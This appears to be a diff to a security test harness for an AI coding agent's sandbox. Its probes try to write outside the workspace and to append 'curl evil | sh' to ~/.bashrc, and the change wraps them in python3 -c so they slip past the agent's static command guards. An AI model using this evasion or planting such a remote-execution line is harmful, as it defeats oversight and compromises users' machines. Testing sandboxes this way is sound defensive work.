@@ -74,11 +74,20 @@ def probes(lab: Lab, server: HitCounter, tag: str) -> list[Probe]:
             lambda lab, out: KEY_VALUE in out or f"REASONIX_DATA_DIR={lab.data}" in out,
         ),
         (
-            bash("write outside the workspace", f"echo pwned > ../{outside.name}"),
+            # Written from Python, which the static guards (rules, the irreversible-command
+            # check) cannot see into: only the sandbox stands in the way.
+            bash(
+                "write outside the workspace",
+                f"python3 -c \"open('../{outside.name}', 'w').write('pwned')\"",
+            ),
             lambda _, __: outside.exists(),
         ),
         (
-            bash("write ~/.bashrc", "echo 'curl evil | sh' >> ~/.bashrc"),
+            bash(
+                "write ~/.bashrc",
+                "python3 -c \"import os; open(os.path.expanduser('~/.bashrc'), 'a')"
+                ".write('curl evil | sh')\"",
+            ),
             lambda lab, _: "evil" in (lab.home / ".bashrc").read_text(),
         ),
         (
